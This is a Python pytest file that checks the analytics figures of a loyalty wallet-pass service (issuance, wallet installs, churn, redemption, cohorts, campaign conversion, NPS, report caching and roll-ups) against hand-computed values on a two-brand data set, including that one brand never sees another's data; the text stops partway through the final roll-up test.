"""Every analytics figure on a small data set computed by hand (the arithmetic is in the
comments), on SQLite and PostgreSQL; another brand's rows, placed everywhere the queries
look, must never count.

The data set (brand A = the demo brand; P = [2026-01-01, 2026-07-01), window N = 60 days):

  card  issued      ledger (kind points amount @date)                      wallets
  c1    2026-01-10  purchase +10 10.00 @01-10, purchase +20 20.00 @02-15,   apple active; google save @02-01, del @06-05
                    redeem -15 @06-01
  c2    2026-01-20  purchase +30 30.00 @01-25, earn +5 @03-10 (birthday     apple registration dead (inactive);
                    gift), purchase +15 15.00 @04-10                        google save @02-01, del @05-10
  c3    2026-02-05  purchase +40 40.00 @04-25, purchase +50 50.00 @06-05,   apple + relay active;
                    purchase +60 60.00 @06-20                               google del @03-01, save @03-02
  c4    2026-03-15  issue 0 @03-15, purchase +11 11.00 @04-20,              uninstalled (card.uninstalled event @05-01)
                    redeem -10 @04-21
  c5    2025-12-20  purchase +5 5.00 @2025-12-21, expire -5 @04-01;         voided, apple registration active
                    voided

Brand B: one card b1 (issued 2026-02-01), purchase +1000 1000.00 @06-05, redeem -500
@06-06, active apple registration, google save, a card.uninstalled event, a campaign, NPS 0.
"""

from __future__ import annotations

import datetime as dt
import secrets
import uuid
from decimal import Decimal
from types import SimpleNamespace
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import event as sql_event
from sqlalchemy import func, select, update
from sqlalchemy.orm import Session

from service import demo
from service.analytics import figures as analytics
from service.analytics import reports as analytics_reports
from service.analytics import rollups as analytics_rollups
from service.analytics.figures import Period
from service.models import (
    AnalyticsRollupState,
    Brand,
    Campaign,
    CampaignRecipient,
    Card,
    Customer,
    GoogleWalletEvent,
    LedgerEntry,
    NpsAnswer,
    NpsSurvey,
    Program,
    PushDelivery,
    Registration,
    Store,
    WebhookEvent,
)
from service.platform import db
from service.platform.config import Settings
from tests.helpers import bearer

P = Period(dt.datetime(2026, 1, 1, tzinfo=dt.UTC), dt.datetime(2026, 7, 1, tzinfo=dt.UTC))
N = 60


def at(month: int, day: int, year: int = 2026, hour: int = 12) -> dt.datetime:
    return dt.datetime(year, month, day, hour, tzinfo=dt.UTC)


class World:
    """Writes rows for the data set with explicit timestamps."""

    def __init__(self, session: Session) -> None:
        self.session = session
        self.number = 500_000_000

    def card(self, program: Program, created: dt.datetime, spend: str = "0", voided: bool = False) -> Card:
        self.number += 1
        customer = Customer(brand_id=program.brand_id, name=f"Member {self.number}", created_at=created)
        self.session.add(customer)
        self.session.flush()
        card = Card(program_id=program.id, customer_id=customer.id, brand_id=program.brand_id, number=self.number,
                    serial_number=str(uuid.uuid4()), authentication_token=secrets.token_hex(16),
                    lifetime_spend=Decimal(spend), voided=voided, created_at=created, updated_at=created)
        self.session.add(card)
        self.session.flush()
        return card

    def entry(self, card: Card, kind: str, points: int, when: dt.datetime, amount: str | None = None,
              key: str | None = None, store: Store | None = None) -> None:
        self.session.add(LedgerEntry(card_id=card.id, kind=kind, points=points, created_at=when,
                                     amount=Decimal(amount) if amount else None, idempotency_key=key,
                                     store_id=store.id if store else None))

    def registration(self, card: Card, kind: str = "apple", active: bool = True) -> None:
        self.session.add(Registration(device_library_identifier=secrets.token_hex(8), card_id=card.id,
                                      pass_type_identifier="pass.dev.passcast.loyalty",
                                      push_token=secrets.token_hex(32), client_kind=kind, active=active))

    def google(self, card: Card, event: str, when: dt.datetime) -> None:
        self.session.add(GoogleWalletEvent(nonce=secrets.token_hex(8), card_id=card.id, object_id=f"o.{card.id}",
                                           event_type=event, created_at=when))

    def uninstalled(self, card: Card, when: dt.datetime) -> None:
        self.session.add(WebhookEvent(brand_id=card.brand_id, uid=str(uuid.uuid4()), type="card.uninstalled",
                                      data={"card_id": card.id, "wallet": "apple", "client": "apple"},
                                      created_at=when))

    def push(self, campaign: Campaign, card: Card, status: str) -> None:
        self.session.add(PushDelivery(card_id=card.id, card_version=2, push_token=secrets.token_hex(32),
                                      client_kind="apple", topic="pass.dev.passcast.loyalty",
                                      campaign_id=campaign.id, status=status))


def other_brand(session: Session, settings: Settings) -> tuple[Brand, Program]:
    brand = demo.create_brand(session, "Other Tea", "other-tea")
    program = Program(brand_id=brand.id, name="Other Tea Club", pass_type_identifier=settings.dev_pass_type_identifier,
                      team_identifier=settings.dev_team_identifier)
    session.add(program)
    session.flush()
    return brand, program


@pytest.fixture
def data(app: Flask, seeded: dict[str, Any], settings: Settings) -> dict[str, Any]:
    with app.app_context():
        session = db.session()
        w = World(session)
        program = session.get(Program, seeded["program_id"])
        assert program is not None
        s1, s2 = (session.get(Store, store_id) for store_id in seeded["store_ids"][:2])
        c1 = w.card(program, at(1, 10), "30.00")
        c2 = w.card(program, at(1, 20), "45.00")
        c3 = w.card(program, at(2, 5), "150.00")
        c4 = w.card(program, at(3, 15), "11.00")
        c5 = w.card(program, at(12, 20, 2025), "5.00", voided=True)
        w.entry(c1, "purchase", 10, at(1, 10), "10.00")
        w.entry(c1, "purchase", 20, at(2, 15), "20.00")
        w.entry(c1, "redeem", -15, at(6, 1))
        w.entry(c2, "purchase", 30, at(1, 25), "30.00")
        w.entry(c2, "earn", 5, at(3, 10), key=f"birthday:{c2.id}:2026")
        w.entry(c2, "purchase", 15, at(4, 10), "15.00")
        w.entry(c3, "purchase", 40, at(4, 25), "40.00")
        w.entry(c3, "purchase", 50, at(6, 5), "50.00")
        w.entry(c3, "purchase", 60, at(6, 20), "60.00")
        w.entry(c4, "issue", 0, at(3, 15))
        w.entry(c4, "purchase", 11, at(4, 20), "11.00")
        w.entry(c4, "redeem", -10, at(4, 21))
        w.entry(c5, "purchase", 5, at(12, 21, 2025), "5.00")
        w.entry(c5, "expire", -5, at(4, 1))
        w.registration(c1)
        w.registration(c2, active=False)
        w.registration(c3)
        w.registration(c3, "relay")
        w.registration(c5)
        w.google(c1, "save", at(2, 1))
        w.google(c1, "del", at(6, 5))
        w.google(c2, "save", at(2, 1))
        w.google(c2, "del", at(5, 10))
        w.google(c3, "del", at(3, 1))
        w.google(c3, "save", at(3, 2))
        w.uninstalled(c4, at(5, 1))
        w.uninstalled(c3, at(4, 1))  # c3 was removed from one phone but is still installed: not "removed"

        # A campaign of brand A on 2026-06-01 to c1, c2, c3, and one from before the period.
        campaign = Campaign(brand_id=program.brand_id, name="June", message="Hi", status="finished",
                            started_at=at(6, 1, hour=0), created_at=at(5, 30))
        old = Campaign(brand_id=program.brand_id, name="December", message="Hi", status="finished",
                       started_at=at(12, 15, 2025), created_at=at(12, 15, 2025))
        session.add_all([campaign, old])
        session.flush()
        for card in (c1, c2, c3):
            session.add(CampaignRecipient(campaign_id=campaign.id, card_id=card.id, created_at=at(6, 1, hour=0)))
        session.add(CampaignRecipient(campaign_id=old.id, card_id=c1.id, created_at=at(12, 15, 2025)))
        w.push(campaign, c1, "confirmed")
        # c2 has no phone: targeted, never sent. (A "queued" row would be sent at once by the outbox.)
        w.push(campaign, c3, "accepted")
        w.push(campaign, c3, "failed")

        # NPS: survey 1 (May) c1 10 @S1, c2 6 @S1; survey 2 (June) c1 9 @S2, c2 9 @S2, c3 8 @S2, c4 0 (no store).
        may = NpsSurvey(brand_id=program.brand_id, program_id=program.id, starts_at=at(5, 1), ends_at=at(6, 1))
        june = NpsSurvey(brand_id=program.brand_id, program_id=program.id, starts_at=at(6, 1))
        session.add_all([may, june])
        session.flush()
        for survey, card, score, store, when in ((may, c1, 10, s1, at(5, 3)), (may, c2, 6, s1, at(5, 4)),
                                                 (june, c1, 9, s2, at(6, 2)), (june, c2, 9, s2, at(6, 3)),
                                                 (june, c3, 8, s2, at(6, 4)), (june, c4, 0, None, at(6, 5))):
            session.add(NpsAnswer(survey_id=survey.id, brand_id=program.brand_id, card_id=card.id, score=score,
                                  store_id=store.id if store else None, answered_at=when))

        # Brand B, everywhere the queries look.
        brand_b, program_b = other_brand(session, settings)
        b1 = w.card(program_b, at(2, 1), "1000.00")
        w.entry(b1, "purchase", 1000, at(6, 5), "1000.00")
        w.entry(b1, "redeem", -500, at(6, 6))
        w.registration(b1)
        w.google(b1, "save", at(3, 1))
        w.uninstalled(b1, at(4, 1))
        campaign_b = Campaign(brand_id=brand_b.id, name="B", message="B", status="finished",
                              started_at=at(6, 1), created_at=at(6, 1))
        session.add(campaign_b)
        session.flush()
        session.add(CampaignRecipient(campaign_id=campaign_b.id, card_id=b1.id, created_at=at(6, 1)))
        w.push(campaign_b, b1, "confirmed")
        survey_b = NpsSurvey(brand_id=brand_b.id, program_id=program_b.id, starts_at=at(6, 1))
        session.add(survey_b)
        session.flush()
        session.add(NpsAnswer(survey_id=survey_b.id, brand_id=brand_b.id, card_id=b1.id, score=0, answered_at=at(6, 7)))
        session.commit()
        api_key_b = demo.create_api_key(session, brand_b, "b")
        session.commit()
        return {"brand_a": program.brand_id, "brand_b": brand_b.id, "campaign": campaign.id,
                "api_key": seeded["api_key"], "api_key_b": api_key_b, "s1": s1.id, "s2": s2.id}


def figures(app: Flask, fn: Any, *args: Any) -> Any:
    with app.app_context():
        return fn(db.session(), *args)


def test_cards_and_wallets(app: Flask, data: dict[str, Any]) -> None:
    a = data["brand_a"]
    assert figures(app, analytics.cards_issued, a, P) == 4  # c1, c2, c3, c4 (c5 is from 2025)
    assert figures(app, analytics.cards_total, a, P) == 5  # + c5
    # c1 (apple) and c3 (apple + relay = one card); c2's registration is dead; c5 is voided.
    assert figures(app, analytics.installed_apple, a) == 2
    # Last Google callback: c1 del, c2 del, c3 save -> 1.
    assert figures(app, analytics.installed_google, a) == 1
    # Removals in P: c4 (uninstalled, nothing left) and c2 (google del, dead apple registration);
    # c1 (google del) and c3 (one phone unregistered) are still installed -> 2.
    assert figures(app, analytics.removed, a, P) == 2


def test_active_lapsed_and_churn(app: Flask, data: dict[str, Any]) -> None:
    a = data["brand_a"]
    # Window [05-02, 07-01): c1 (redeem 06-01), c3 (06-05, 06-20) -> 2.
    assert figures(app, analytics.active, a, P, N) == 2
    # Issued before 05-02 and not voided: c1..c4 = 4 (c5 is voided); minus the active c1, c3 -> 2 (c2, c4).
    assert figures(app, analytics.lapsed, a, P, N) == 2
    # Window before, [03-03, 05-02): c2 (purchase 04-10; the 03-10 birthday gift is no activity),
    # c3 (04-25), c4 (04-20, 04-21); c5's expiry is no activity. Of {c2, c3, c4} only c3 is
    # active now: churn = 2 / 3.
    assert figures(app, analytics.churn_rate, a, P, N) == round(2 / 3, 4)
    # A 30-day window ending 07-01: [06-01, 07-01) has c1, c3; [05-02, 06-01) has nobody -> None.
    assert figures(app, analytics.churn_rate, a, P, 30) is None


def test_points_and_purchases(app: Flask, data: dict[str, Any]) -> None:
    a = data["brand_a"]
    # Issued in P: c1 10+20, c2 30+5+15, c3 40+50+60, c4 11 = 30+50+150+11 = 241; c5's 5 is
    # from 2025. Redeemed: c1 15 + c4 10 = 25 (expiry is not redemption). 25/241 = 0.10373.
    assert figures(app, analytics.redemption_rate, a, P) == {"points_issued": 241, "points_redeemed": 25,
                                                             "rate": 0.1037}
    # Purchases in P: 10, 20, 30, 15, 40, 50, 60, 11 -> 8 purchases, 236.00, 236/8 = 29.50.
    assert figures(app, analytics.purchases, a, P) == {"count": 8, "revenue": "236.00", "average": "29.50"}
    # Buyers in P: c1 (2), c2 (2), c3 (3), c4 (1) -> 3 of 4 bought again: 0.75.
    assert figures(app, analytics.repeat_purchase_rate, a, P) == {"buyers": 4, "repeat_buyers": 3, "rate": 0.75}
    # Lifetime spend of the cards issued in P: (30 + 45 + 150 + 11) / 4 = 59.00.
    assert figures(app, analytics.lifetime_value, a, P) == "59.00"
    # Only June: purchases 50 + 60 = 110 / 2 = 55.00, one buyer twice; redeemed 15, issued 110.
    june = Period(at(6, 1, hour=0), P.end)
    assert figures(app, analytics.purchases, a, june) == {"count": 2, "revenue": "110.00", "average": "55.00"}
    assert figures(app, analytics.repeat_purchase_rate, a, june)["rate"] == 1.0
    assert figures(app, analytics.redemption_rate, a, june)["rate"] == round(15 / 110, 4)


def test_cohorts(app: Flask, data: dict[str, Any]) -> None:
    cohorts = figures(app, analytics.cohorts, data["brand_a"], P)
    assert cohorts == [
        # January: c1 (active Jan, Feb, Jun), c2 (Jan, Apr; the March birthday gift does not
        # count). Months Jan..Jun = k 0..5: [2, 1, 0, 1, 0, 1] of 2. LTV (30 + 45) / 2.
        {"cohort": "2026-01", "cards": 2, "active": [2, 1, 0, 1, 0, 1],
         "retention": [1.0, 0.5, 0.0, 0.5, 0.0, 0.5], "lifetime_value": "37.50"},
        # February: c3 active in April (k 2) and June (k 4); Feb..Jun = 5 months.
        {"cohort": "2026-02", "cards": 1, "active": [0, 0, 1, 0, 1],
         "retention": [0.0, 0.0, 1.0, 0.0, 1.0], "lifetime_value": "150.00"},
        # March: c4's issue entry is no activity; April (k 1) has its purchase and redemption.
        {"cohort": "2026-03", "cards": 1, "active": [0, 1, 0, 0], "retention": [0.0, 1.0, 0.0, 0.0],
         "lifetime_value": "11.00"},
    ]


def test_campaigns(app: Flask, data: dict[str, Any]) -> None:
    campaigns = figures(app, analytics.campaigns, data["brand_a"], P)
    assert len(campaigns) == 1, "December's campaign started before the period; brand B's is not ours"
    june = campaigns[0]
    # targeted c1, c2, c3; sent (left us; c2 has no phone): c1, c3; accepted: c1 (confirmed), c3 (accepted);
    # confirmed: c1. In the 7 days from 06-01 00:00: c3's 50.00 on 06-05 (06-20 is too late,
    # c1's redemption is no purchase): 1 buyer of the 2 cards the campaign reached (c1, c3: a
    # vendor took their pushes; c2 had no phone, so its purchases would not count).
    assert {key: june[key] for key in ("id", "targeted", "sent", "accepted", "confirmed", "reached", "buyers_7d",
                                       "purchases_7d", "revenue_7d", "conversion_7d", "causal")} == {
        "id": data["campaign"], "targeted": 3, "sent": 2, "accepted": 2, "confirmed": 1, "reached": 2,
        "buyers_7d": 1, "purchases_7d": 1, "revenue_7d": "50.00", "conversion_7d": round(1 / 2, 4),
        "causal": False}


# -- campaigns' 7-day purchases: counted live while they can change, stored once final ----------

P_QUERY = analytics_reports.Query(dt.date(2026, 1, 1), dt.date(2026, 6, 30), N)


def _ledger_statements(session: Session, call: Any) -> tuple[Any, list[str]]:
    """call()'s result and the SQL statements it ran that read the ledger (every connection of
    the engine: the report's figures run on connections of their own on PostgreSQL)."""
    statements: list[str] = []

    def seen(conn: Any, cursor: Any, statement: str, *args: Any) -> None:
        if "ledger_entries" in statement:
            statements.append(statement)

    engine = session.get_bind()
    engine = getattr(engine, "engine", engine)
    sql_event.listen(engine, "before_cursor_execute", seen)
    try:
        return call(), statements
    finally:
        sql_event.remove(engine, "before_cursor_execute", seen)


def _stored(session: Session, campaign_id: int) -> tuple[Any, Any, Any]:
    session.expire_all()
    campaign = session.get(Campaign, campaign_id)
    assert campaign is not None
    return campaign.buyers_7d, campaign.purchases_7d, campaign.revenue_7d


def test_final_campaign_purchases_are_stored_once_and_then_read(app: Flask, data: dict[str, Any]) -> None:
    a, june_id = data["brand_a"], data["campaign"]
    with app.app_context():
        session = db.session()
        assert _stored(session, june_id) == (None, None, None)
        june = session.get(Campaign, june_id)
        assert june is not None
        live = analytics.campaign_purchases(session, june_id, june.started_at)
        assert live == (1, 1, Decimal("50.00"))  # c3's 50.00 on 06-05 (see test_campaigns)
        session.rollback()
        # Finished, its window closed months ago: counted from the ledger one last time, and stored.
        body, reads = _ledger_statements(session, lambda: analytics_reports.compute(session, a, "campaigns",
                                                                                     P_QUERY)[0])
        assert reads, "the first report counts the purchases"
        first = body["campaigns"][0]
        assert (first["buyers_7d"], first["purchases_7d"], first["revenue_7d"]) == (1, 1, "50.00")
        assert "_final" not in body
        assert _stored(session, june_id) == live
        # Later reports read the stored figures, not the ledger: a stored value made different on
        # purpose is what they answer; the funnel is still counted live.
        session.execute(update(Campaign).where(Campaign.id == june_id)
                        .values(buyers_7d=2, purchases_7d=7, revenue_7d=Decimal("123.45")))
        session.commit()
        body, reads = _ledger_statements(session, lambda: analytics_reports.compute(session, a, "campaigns",
                                                                                     P_QUERY)[0])
        assert reads == []
        again = body["campaigns"][0]
        assert {key: again[key] for key in ("targeted", "sent", "confirmed", "buyers_7d", "purchases_7d",
                                            "revenue_7d", "conversion_7d")} == {
            "targeted": 3, "sent": 2, "confirmed": 1, "buyers_7d": 2, "purchases_7d": 7, "revenue_7d": "123.45",
            "conversion_7d": 1.0}  # 2 buyers of the 2 cards reached
        assert analytics.campaigns(session, a, P)[0]["revenue_7d"] == "123.45"
        # Stored once: a report never overwrites it.
        assert analytics.store_purchases(session, [first]) == 0
        session.commit()
        assert _stored(session, june_id) == (2, 7, Decimal("123.45"))


@pytest.mark.usefixtures("awkward_moment")  # "now" decides these figures
def test_open_campaign_purchases_are_counted_live_until_final(app: Flask, data: dict[str, Any]) -> None:
    a = data["brand_a"]
    now = analytics_reports.utcnow()
    query = analytics_reports.Query(now.date() - dt.timedelta(days=40), None, N)
    with app.app_context():
        session = db.session()
        cards = session.scalars(select(Card).where(Card.brand_id == a).order_by(Card.id)).all()
        w = World(session)
        started = now - dt.timedelta(days=2)
        recent = Campaign(brand_id=a, name="Open", message="Hi", status="finished", started_at=started,
                          created_at=started)
        # Window closed, but a geo campaign still running adds recipients when it ends.
        running = Campaign(brand_id=a, kind="geo", name="Geo", status="running", started_at=now - dt.timedelta(days=30),
                           created_at=now - dt.timedelta(days=30))
        session.add_all([recent, running])
        session.flush()
        for campaign in (recent, running):
            for card in cards[:2]:
                session.add(CampaignRecipient(campaign_id=campaign.id, card_id=card.id, created_at=campaign.started_at))
        w.push(running, cards[0], "accepted")  # the geo campaign reached cards[0]'s phone,
        for card in cards[:2]:  # the message campaign both phones
            w.push(recent, card, "confirmed")
        w.entry(cards[0], "purchase", 5, running.started_at + dt.timedelta(days=1), "5.00")
        session.commit()
        ids = (recent.id, running.id)

        def report() -> dict[int, tuple[int, int, str]]:
            body = analytics_reports.compute(session, a, "campaigns", query)[0]
            return {c["id"]: (c["buyers_7d"], c["purchases_7d"], c["revenue_7d"]) for c in body["campaigns"]
                    if c["id"] in ids}

        assert report() == {recent.id: (0, 0, "0.00"), running.id: (1, 1, "5.00")}
        assert [_stored(session, i) for i in ids] == [(None, None, None)] * 2
        # Purchases arrive: the open window counts them at once.
        w.entry(cards[0], "purchase", 10, now - dt.timedelta(hours=1), "10.00")
        w.entry(cards[1], "purchase", 20, now - dt.timedelta(minutes=5), "20.00")
        w.entry(cards[1], "redeem", -5, now - dt.timedelta(minutes=4))  # no purchase
        session.commit()
        assert report()[recent.id] == (2, 2, "30.00")
        assert [_stored(session, i) for i in ids] == [(None, None, None)] * 2
        # The geo campaign ends (a recipient more); then its figures are final and stored.
        session.add(CampaignRecipient(campaign_id=running.id, card_id=cards[2].id, created_at=now))
        w.push(running, cards[2], "accepted")
        w.entry(cards[2], "purchase", 7, running.started_at + dt.timedelta(days=6), "7.00")
        session.execute(update(Campaign).where(Campaign.id == running.id).values(status="finished"))
        session.commit()
        assert report()[running.id] == (2, 2, "12.00")
        assert _stored(session, running.id) == (2, 2, Decimal("12.00"))
        assert _stored(session, recent.id) == (None, None, None)


def test_purchases_are_final_once_the_window_closed_and_settled(app: Flask, data: dict[str, Any]) -> None:
    with app.app_context():
        session = db.session()
        row = SimpleNamespace(**analytics.campaign_rows(session, data["brand_a"], P)[0]._mapping)
    closed = row.started_at + analytics.CAMPAIGN_WINDOW + analytics.SETTLE
    assert analytics.purchases_final(row, closed)
    # A purchase stamped just before the window closed may still be committing.
    assert not analytics.purchases_final(row, closed - dt.timedelta(seconds=1))
    assert not analytics.purchases_final(SimpleNamespace(**{**vars(row), "status": "sending"}),
                                         closed + dt.timedelta(days=30))
    assert analytics.purchases_final(SimpleNamespace(**{**vars(row), "status": "cancelled"}), closed)


def test_nps(app: Flask, data: dict[str, Any]) -> None:
    a = data["brand_a"]
    # Scores 10, 6, 9, 9, 8, 0: promoters 3 (10, 9, 9), passives 1 (8), detractors 2 (6, 0);
    # (3 - 2) / 6 = 16.7 % -> 17.
    assert figures(app, analytics.nps_total, a, P) == {"answers": 6, "promoters": 3, "passives": 1,
                                                       "detractors": 2, "nps": 17}
    by_month = figures(app, analytics.nps_by_month, a, P)
    # May: 10, 6 -> (1 - 1) / 2 = 0. June: 9, 9, 8, 0 -> (2 - 1) / 4 = 25.
    assert [(m["month"], m["answers"], m["nps"]) for m in by_month] == [("2026-05", 2, 0), ("2026-06", 4, 25)]
    by_store = {s["store_id"]: (s["answers"], s["nps"]) for s in figures(app, analytics.nps_by_store, a, P)}
    # S1: 10, 6 -> 0; S2: 9, 9, 8 -> 2/3 = 67; no store: 0 -> -100.
    assert by_store == {data["s1"]: (2, 0), data["s2"]: (3, 67), None: (1, -100)}


def test_another_brand_sees_only_its_own(app: Flask, data: dict[str, Any]) -> None:
    b = data["brand_b"]
    assert figures(app, analytics.cards_issued, b, P) == 1
    assert figures(app, analytics.installed_apple, b) == 1
    assert figures(app, analytics.installed_google, b) == 1
    assert figures(app, analytics.removed, b, P) == 0  # uninstalled once, still installed
    assert figures(app, analytics.purchases, b, P) == {"count": 1, "revenue": "1000.00", "average": "1000.00"}
    assert figures(app, analytics.redemption_rate, b, P)["rate"] == 0.5  # 500 / 1000
    assert figures(app, analytics.active, b, P, N) == 1
    assert [c["targeted"] for c in figures(app, analytics.campaigns, b, P)] == [1]
    assert figures(app, analytics.nps_total, b, P)["nps"] == -100


# -- the API ---------------------------------------------------------------------------------

QUERY = "from=2026-01-01&to=2026-06-30&days=60"


def test_summary_api_and_csv(client: FlaskClient, data: dict[str, Any]) -> None:
    response = client.get(f"/api/v1/analytics/summary?{QUERY}", headers=bearer(data["api_key"]))
    assert response.status_code == 200, response.get_json()
    body = response.get_json()
    assert body["period"] == {"from": "2026-01-01", "to": "2026-06-30", "days": 60}
    assert body["cards"] == {"issued": 4, "total": 5, "installed_apple": 2, "installed_google": 1, "removed": 2,
                             "active": 2, "lapsed": 2}
    assert body["churn_rate"] == 0.6667
    assert body["purchases"]["average"] == "29.50"
    assert body["cached"] is False

    csv_response = client.get(f"/api/v1/analytics/summary?{QUERY}&format=csv", headers=bearer(data["api_key"]))
    assert csv_response.mimetype == "text/csv"
    lines = csv_response.get_data(as_text=True).splitlines()
    assert lines[0] == "metric,value"
    assert "cards.issued,4" in lines and "redemption.rate,0.1037" in lines and "churn_rate,0.6667" in lines
    assert "currency,EUR" in lines and body["currency"] == "EUR", "money figures say their currency"
    assert "passcast-summary-2026-01-01-2026-06-30.csv" in csv_response.headers["Content-Disposition"]

    # The other brand's key sees its own figures only.
    other = client.get(f"/api/v1/analytics/summary?{QUERY}", headers=bearer(data["api_key_b"])).get_json()
    assert other["cards"]["issued"] == 1 and other["purchases"]["revenue"] == "1000.00"


def test_cohorts_campaigns_nps_csv_by_accept_header(client: FlaskClient, data: dict[str, Any]) -> None:
    headers = {**bearer(data["api_key"]), "Accept": "text/csv"}
    cohorts = client.get(f"/api/v1/analytics/cohorts?{QUERY}", headers=headers).get_data(as_text=True).splitlines()
    assert cohorts[0] == "cohort,cards,lifetime_value,currency,month_0,month_1,month_2,month_3,month_4,month_5"
    assert cohorts[1] == "2026-01,2,37.50,EUR,1.0,0.5,0.0,0.5,0.0,0.5"
    campaigns = client.get(f"/api/v1/analytics/campaigns?{QUERY}", headers=headers).get_data(as_text=True)
    assert campaigns.splitlines()[1].startswith(f"{data['campaign']},June,message,finished,")
    nps = client.get(f"/api/v1/analytics/nps?{QUERY}", headers=headers).get_data(as_text=True).splitlines()
    assert nps[:4] == ["group,name,answers,promoters,passives,detractors,nps", "total,,6,3,1,2,17",
                       "month,2026-05,2,1,0,1,0", "month,2026-06,4,2,1,1,25"]
    as_json = client.get(f"/api/v1/analytics/nps?{QUERY}", headers=bearer(data["api_key"]))
    assert as_json.mimetype == "application/json" and as_json.get_json()["total"]["nps"] == 17


def test_bad_requests_are_problems(client: FlaskClient, data: dict[str, Any]) -> None:
    assert client.get("/api/v1/analytics/summary").status_code == 401
    for query, field in (("from=2026-05-01&to=2026-04-01", "to"), ("days=0", "days"), ("from=yesterday", "from"),
                         ("format=xml", "format"), ("from=2020-01-01&to=2026-01-01", "from"),
                         ("to=9999-12-31", "to"), ("from=2999-01-01", "from"), ("from=0001-01-01", "from")):
        response = client.get(f"/api/v1/analytics/summary?{query}", headers=bearer(data["api_key"]))
        assert response.status_code == 422, query
        assert response.mimetype == "application/problem+json"
        assert field in [error["field"] for error in response.get_json()["errors"]], response.get_json()


@pytest.mark.usefixtures("awkward_moment")  # "now" decides these figures
def test_slow_reports_are_cached_and_refreshed(app: Flask, client: FlaskClient, data: dict[str, Any],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """Every report counts as slow here: the second answer comes from the cache; the job
    recomputes it once it is older than REFRESH_AFTER and drops what nobody looked at."""
    monkeypatch.setattr(analytics_reports, "SLOW_SECONDS", 0.0)
    first = client.get(f"/api/v1/analytics/summary?{QUERY}", headers=bearer(data["api_key"])).get_json()
    second = client.get(f"/api/v1/analytics/summary?{QUERY}", headers=bearer(data["api_key"])).get_json()
    assert (first["cached"], second["cached"]) == (False, True)
    assert second["computed_at"] == first["computed_at"] and second["cards"] == first["cards"]
    with app.app_context():
        session = db.session()
        now = dt.datetime.now(dt.UTC)
        assert analytics_reports.refresh(session, now) == 0  # still fresh
        assert analytics_reports.refresh(session, now + analytics_reports.REFRESH_AFTER + dt.timedelta(seconds=1)) == 1
        assert analytics_reports.refresh(session, now + dt.timedelta(days=2)) == 0  # unwatched: dropped
        from service.models import AnalyticsCache
        assert session.query(AnalyticsCache).count() == 0


def test_a_big_brand_gets_its_figures_counted_by_a_job(app: Flask, client: FlaskClient, data: dict[str, Any],
                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing cached for a big brand: a job counts the report. With immediate jobs (as in
    this test) it is there when the request looks again; with a worker the answer is 202."""
    monkeypatch.setattr(analytics_reports, "BIG_BRAND_CARDS", 5)  # brand A has 5 cards, brand B 1
    body = client.get(f"/api/v1/analytics/summary?{QUERY}", headers=bearer(data["api_key"])).get_json()
    assert body["cached"] is True and body["cards"]["issued"] == 4
    small = client.get(f"/api/v1/analytics/summary?{QUERY}", headers=bearer(data["api_key_b"])).get_json()
    assert small["cached"] is False, "a small brand is counted while it waits"

    asked: list[tuple[int, str]] = []
    with app.app_context():
        session = db.session()
        query = analytics_reports.Query(dt.date(2026, 2, 1), dt.date(2026, 6, 30), 60)
        with pytest.raises(analytics_reports.Counting):
            analytics_reports.answer(session, data["brand_a"], "cohorts", query,
                                     count_later=lambda brand, key: asked.append((brand, key)))
        assert asked == [(data["brand_a"], "cohorts:2026-02-01:2026-06-30:60")]
        assert analytics_reports.count_into_cache(session, data["brand_a"], asked[0][1]) is True
        assert analytics_reports.count_into_cache(session, data["brand_a"], asked[0][1]) is False  # fresh already
        cohorts = analytics_reports.answer(session, data["brand_a"], "cohorts", query, count_later=asked.append)
        assert cohorts["cached"] is True and [c["cohort"] for c in cohorts["cohorts"]] == ["2026-02", "2026-03"]


def test_a_big_brand_sees_older_figures_while_a_job_recounts_them(app: Flask, data: dict[str, Any],
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(analytics_reports, "BIG_BRAND_CARDS", 5)
    query = analytics_reports.Query(dt.date(2026, 1, 1), dt.date(2026, 6, 30), 60)
    key = query.key("summary")
    asked: list[str] = []
    with app.app_context():
        session = db.session()
        assert analytics_reports.count_into_cache(session, data["brand_a"], key)
        from service.models import AnalyticsCache
        row = session.query(AnalyticsCache).one()
        row.computed_at -= dt.timedelta(hours=2)  # older than FRESH_FOR, younger than STALE_FOR
        session.commit()
        stale = analytics_reports.answer(session, data["brand_a"], "summary", query,
                                         count_later=lambda brand, k: asked.append(k))
        assert asked == [key], "a recount was asked for"
        assert stale["cached"] is True and stale["cards"]["issued"] == 4
        row = session.query(AnalyticsCache).one()
        row.computed_at -= dt.timedelta(days=2)  # too old to show
        session.commit()
        with pytest.raises(analytics_reports.Counting):
            analytics_reports.answer(session, data["brand_a"], "summary", query, count_later=lambda *_: None)


# -- roll-ups (service/analytics/rollups.py) ---------------------------------------------------

FUTURE = dt.datetime(2030, 1, 1, tzinfo=dt.UTC)  # the roll-up job's "now": every entry is older than LAG


def _periods() -> list[tuple[Period, int]]:
    return [(P, N), (P, 30), (P, 7), (Period(at(6, 1, hour=0), P.end), 90),
            (Period(at(3, 1, hour=0), at(5, 15, hour=0)), 20),
            (Period(at(12, 1, 2025, hour=0), at(1, 21, hour=0)), 14),
            (Period(at(1, 1, 2025, hour=0), at(1, 1, 2027, hour=0)), 365)]


def _both(session: Session, brand_id: int) -> tuple[list[Any], list[Any]]:
    """Every ledger figure of every period, from the roll-ups and from the raw tables."""
    rolled, raw = [], []
    for period, days in _periods():
        for name in ("active", "lapsed", "churn_rate"):
            rolled.append((name, period, days, getattr(analytics_rollups, name)(session, brand_id, period, days)))
            raw.append((name, period, days, getattr(analytics, name)(session, brand_id, period, days)))
        for name in ("redemption_rate", "purchases", "repeat_purchase_rate", "cohorts"):
            rolled.append((name, period, getattr(analytics_rollups, name)(session, brand_id, period)))
            raw.append((name, period, getattr(analytics, name)(session, brand_id, period)))
    return rolled, raw


def test_rolled_up_figures_equal_the_raw_ones_also_for_entries_after_a_roll_up(
        app: Flask, data: dict[str, Any], seeded: dict[str, Any]) -> None:
    with app.app_context():
        session = db.session()
        a, b = data["brand_a"], data["brand_b"]
        assert not analytics_rollups.ready(session)
        # The first run backfills (in SQL), the later ones roll up 3 entries at a time (in Python).
        analytics_rollups.step(session, FUTURE)
        assert analytics_rollups.ready(session)
        assert analytics_rollups.run(session, FUTURE, batch=3) == 0  # the backfill took everything
        last = session.scalar(select(func.max(LedgerEntry.id)))
